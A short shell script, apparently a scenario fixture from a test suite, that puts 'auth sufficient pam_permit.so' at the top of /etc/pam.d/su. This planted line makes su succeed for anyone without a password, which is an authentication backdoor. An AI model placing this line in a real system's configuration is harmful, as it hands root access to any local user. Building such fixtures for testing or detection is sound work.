#!/bin/sh
# pam-permit: a module that says yes before the others (pam.d(5),
# pam_permit(8))
. "${0%/*}/lib.sh"
only "plain disguised user" "an answer has no command"
front /etc/pam.d/su "auth sufficient pam_permit.so"
